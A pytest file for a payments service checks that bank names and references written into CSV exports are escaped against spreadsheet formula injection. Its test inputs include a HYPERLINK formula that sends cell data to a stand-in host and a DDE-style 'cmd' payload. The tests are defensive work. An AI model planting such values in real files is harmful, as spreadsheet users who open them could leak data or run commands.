"""The payments' CSV files (the bank transfer file, the audit export) are opened in
spreadsheets by KNEC's finance office: text typed by an officer (their bank's name), an
administrator (a bank reference) or the provider (a failure's reason) must stay text
there, never a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from cp2hub import models as m
from cp2hub.payments import audit, bank_file, batches, reconcile
from cp2hub.payments.backends import OutboxPayments
from cp2hub.payments.run import run_batch
from cp2hub.sms.outbox import OutboxSms
from tests.hub.payments_world import PayWorld

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"Equity")'


@pytest.fixture
def world(hub_database) -> PayWorld:
    return PayWorld(hub_database)


def sms(session):
    return OutboxSms(session)


def filed_batch(world: PayWorld, bank_name: str) -> str:
    banked = world.officer(2200, bank=True)
    with world.db.write() as s:
        s.get(m.Professional, world.claims[banked]).bank_name = bank_name
    with world.db.write() as s:
        batch = batches.prepare(s, world.series_code, None, world.admins[0])
    with world.db.write() as s:
        batches.approve(s, batch.id, world.admins[1])
    run_batch(world.db, batch.id, world.admins[0], OutboxPayments(world.db), sms)
    return batch.id


@pytest.mark.parametrize("typed", [FORMULA, "+254 Bank", "-1+1", "@SUM(A1)", "\tBank"])
def test_a_bank_name_that_a_spreadsheet_would_run_stays_text_in_the_bank_file(world, typed):
    batch_id = filed_batch(world, typed)
    with world.db.write() as s:
        _name, text = bank_file.of_batch(s, batch_id, world.admins[0])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["bank"] == "'" + typed
    assert (row["bank"][0], row["amount_ksh"]) == ("'", "2200")


def test_a_reference_that_a_spreadsheet_would_run_stays_text_in_the_audit_export(world):
    batch_id = filed_batch(world, "Equity Bank")
    with world.db.write() as s:
        reconcile.confirm_bank_file(s, batch_id, "=1+cmd|' /C calc'!A0", world.admins[1], sms(s))
    with world.db.read() as s:
        rows = list(csv.DictReader(io.StringIO(audit.export_csv(s, batch_id))))
    paid = [r for r in rows if r["action"] == "bank_paid"]
    assert [r["detail"] for r in paid] == ["'=1+cmd|' /C calc'!A0"]
    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
